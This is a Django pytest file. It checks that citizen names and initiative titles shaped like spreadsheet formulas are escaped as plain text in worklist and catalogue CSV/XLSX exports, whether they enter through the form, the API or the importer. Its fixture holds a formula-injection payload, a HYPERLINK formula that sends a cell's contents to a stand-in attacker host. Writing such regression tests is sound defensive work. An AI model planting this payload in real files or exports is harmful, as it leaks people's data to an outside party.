"""Issue 10 #1: a citizen named like a formula, made through the form, the API or an import, is
plain text in every export (worklist CSV/XLSX, the catalogue report)."""

import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from catalogue.models import Initiative, TargetGroup
from citizens import importer
from citizens.models import Citizen
from tests.api.conftest import api_for
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"klik")'


def _make_by_form(client, teams, alice):
    response = client_for(client, alice).post(
        reverse("citizens:create"),
        {
            "cpr": "010190-1234",
            "first_name": EVIL,
            "last_name": "@Formel",
            "team": teams[0].pk,
            "caseworker": alice.pk,
            "target_group": TargetGroup.objects.get(code="kh-jobparat").pk,
            "start": (timezone.localdate() - timedelta(days=10)).isoformat(),
        },
    )
    assert response.status_code == 302


def _make_by_api(client, teams, alice):
    response = api_for(alice).post(
        "/api/v1/citizens/",
        {
            "cpr": "010190-1234",
            "first_name": EVIL,
            "last_name": "@Formel",
            "team": teams[0].pk,
            "caseworker": alice.pk,
            "target_group": "kh-jobparat",
            "start": (timezone.localdate() - timedelta(days=10)).isoformat(),
        },
        format="json",
    )
    assert response.status_code == 201, response.content


def _make_by_import(client, teams, alice):
    start = (timezone.localdate() - timedelta(days=10)).isoformat()
    text = (
        "cpr;first_name;last_name;team;caseworker;target_group;start\n"
        f'010190-1234;"{EVIL.replace(chr(34), chr(34) * 2)}";@Formel;Team Nord;alice;kh-jobparat;{start}\n'
    )
    report, result = importer.run_import(text.encode(), "stamme.csv", user=alice.user, commit=True)
    assert result is not None, report.errors


@pytest.mark.parametrize("make", [_make_by_form, _make_by_api, _make_by_import])
def test_formula_name_is_text_in_the_worklist_exports(client, teams, alice, make):
    make(client, teams, alice)
    assert Citizen.objects.get().first_name == EVIL
    client_for(client, alice)

    csv = client.get(reverse("citizens:worklist"), {"_export": "csv"}).content.decode("utf-8-sig")
    cells = [cell for line in csv.splitlines()[1:] for cell in line.split(";")]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in csv

    xlsx = client.get(reverse("citizens:worklist"), {"_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in values)
    name = next(c for c in values if "HYPERLINK" in str(c.value))
    assert name.data_type == "s" and name.value.startswith("'=HYPERLINK")


def test_formula_title_is_text_in_the_catalogue_export(client, ada):
    Initiative.objects.create(title=EVIL, category="specified", type="efficiency", target_2029=100_000)
    client_for(client, ada)
    csv = client.get(reverse("reports:catalogue"), {"format": "csv"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ";=HYPERLINK" not in csv
    xlsx = client.get(reverse("reports:catalogue"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + EVIL for c in cells)
